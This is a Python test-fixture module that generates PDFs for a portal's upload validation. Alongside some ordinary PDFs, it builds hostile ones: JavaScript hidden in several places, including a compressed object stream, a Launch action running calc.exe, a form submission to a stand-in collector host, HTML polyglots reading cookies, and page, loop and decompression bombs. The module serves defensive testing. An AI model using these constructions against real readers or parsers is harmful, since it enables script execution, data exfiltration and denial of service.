"""PDFs made on the spot for tests: good ones, and each kind the portal must refuse."""

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def pdf_bytes(pages=2, *, javascript=False, attachment=False, password=None):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if javascript:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hello')"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if attachment:
        writer.add_attachment("payload.txt", b"not for the public")
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# Hostile and ordinary PDFs made with pikepdf, each built in milliseconds ------------------

PAGE_BOMB_PAGES = 100_000


def _saved(pdf, **options):
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def _blank(pages=1):
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _javascript(code="app.alert('hello')"):
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _link(pdf, action):
    """A link annotation on the first page that does `action` when clicked."""
    annotation = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 72, 200, 100], A=action)
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([annotation]))
    return pdf


def _form(pdf, **field_extra):
    """A text field on the first page, in the document's form."""
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("comments"),
            Rect=[72, 600, 300, 620],
            P=pdf.pages[0].obj,
            **field_extra,
        )
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([field]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)
    return pdf


def javascript_on_opening():
    pdf = _blank()
    pdf.Root.OpenAction = pdf.make_indirect(_javascript())
    return _saved(pdf)


def javascript_in_names():
    pdf = _blank()
    scripts = Dictionary(Names=Array([String("hello"), pdf.make_indirect(_javascript())]))
    pdf.Root.Names = Dictionary(JavaScript=scripts)
    return _saved(pdf)


def javascript_on_a_page_event():
    pdf = _blank()
    pdf.pages[0].AA = Dictionary(O=pdf.make_indirect(_javascript()))
    return _saved(pdf)


def javascript_in_a_link():
    return _saved(_link(_blank(), _javascript()))


def javascript_in_a_form_field():
    pdf = _form(_blank(), AA=Dictionary(K=_javascript("event.value = 1")))
    return _saved(pdf)


def javascript_in_an_object_stream():
    """JavaScript inside a compressed object stream, invisible to a search of the bytes."""
    pdf = _blank()
    pdf.Root.OpenAction = pdf.make_indirect(_javascript())
    return _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def launch_action():
    launch = Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe"))
    return _saved(_link(_blank(), launch))


def embedded_file():
    pdf = _blank()
    pdf.attachments["payload.txt"] = pikepdf.AttachedFileSpec(pdf, b"not for the public")
    return _saved(pdf)


def uri_link(address):
    return _saved(_link(_blank(), Dictionary(S=Name.URI, URI=String(address))))


def submit_form():
    submit = Dictionary(S=Name.SubmitForm, F=String("https://collector.example/"))
    return _saved(_link(_form(_blank()), submit))


def encrypted(*, R, user="", owner="owner"):
    """R=6 is AES-256, R=4 AES-128, R=3 RC4 128-bit, R=2 RC4 40-bit."""
    return _saved(
        _blank(),
        encryption=pikepdf.Encryption(owner=owner, user=user, R=R, metadata=R >= 4, aes=R >= 4),
    )


def html_renamed():
    return b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def polyglot_after_the_end():
    """A complete PDF with a web page after its end."""
    return _saved(_blank()) + b"<html><body><script>alert(document.cookie)</script></body></html>\n"


def polyglot_in_the_header():
    """A web page hidden in the comment after the PDF header; the PDF itself is intact."""
    content = _saved(_blank())
    header, rest = content.split(b"\n", 1)
    return header + b"\n%<html><body><script>alert(1)</script><!--\n" + rest + b"-->\n%%EOF\n"


def page_bomb(pages=PAGE_BOMB_PAGES, *, claimed=None):
    """One page object listed `pages` times: about 6 bytes a page.

    With `claimed`, the page tree's /Count says that many pages instead (pikepdf writes the
    true count, so the lie is written over it, padded to keep every offset)."""
    pdf = _blank()
    page = pdf.pages[0].obj
    pdf.Root.Pages.Kids = Array([page] * pages)
    pdf.Root.Pages.Count = pages
    content = _saved(pdf)
    if claimed is not None:
        true, lie = f"/Count {pages}".encode(), f"/Count {claimed}".encode()
        content = content.replace(true, lie.ljust(len(true)), 1)
    return content


def page_tree_loop():
    pdf = _blank()
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)
    return _saved(pdf)


def decompression_bomb(megabytes):
    """A page whose content stream is `megabytes` of zeros, compressed about 1,000 times."""
    packer = zlib.compressobj(1)
    zeros = bytes(1_000_000)
    packed = b"".join(packer.compress(zeros) for _ in range(megabytes)) + packer.flush()
    pdf = _blank()
    stream = pikepdf.Stream(pdf, packed)
    stream.Filter = Name.FlateDecode
    pdf.pages[0].Contents = pdf.make_indirect(stream)
    return _saved(pdf, compress_streams=False)


def object_stream_bomb(megabytes):
    """An object stream that qpdf itself unpacks while it reads the file: `megabytes` of
    spaces after the one object it holds. Written by hand, since pikepdf rewrites object
    streams when it saves."""
    head, body = b"5 0 ", b"<< /Producer (bomb) >> "
    packer = zlib.compressobj(1)
    spaces = b" " * 1_000_000
    packed = packer.compress(head + body)
    packed += b"".join(packer.compress(spaces) for _ in range(megabytes)) + packer.flush()
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(head), len(packed))
        + packed
        + b"\nendstream",
    }
    for number, text in objects.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, text))
    xref_at = out.tell()
    rows = [(0, 0, 65535), *((1, offsets[n], 0) for n in objects), (2, 4, 0), (1, xref_at, 0)]
    xref = b"".join(struct.pack(">BIH", *row) for row in rows)
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Info 5 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(xref), xref, xref_at)
    )
    return out.getvalue()


def multi_section(sections=4, pages_each=3):
    """Several sections, each a bookmark over its pages, with page labels."""
    pdf = _blank(sections * pages_each)
    with pdf.open_outline() as outline:
        for section in range(sections):
            title = f"Section {section + 1}"
            outline.root.append(pikepdf.OutlineItem(title, section * pages_each))
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
    return _saved(pdf)


def rotated():
    pdf = _blank(3)
    for page, angle in zip(pdf.pages, [90, 180, 270], strict=True):
        page.Rotate = angle
    return _saved(pdf)


def form_without_actions():
    """A fillable form and an ordinary web link: nothing runs."""
    pdf = _form(_blank(2))
    link = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=[72, 72, 200, 100],
            A=Dictionary(S=Name.URI, URI=String("https://www.england.nhs.uk/")),
        )
    )
    pdf.pages[0].Annots.append(link)
    return _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
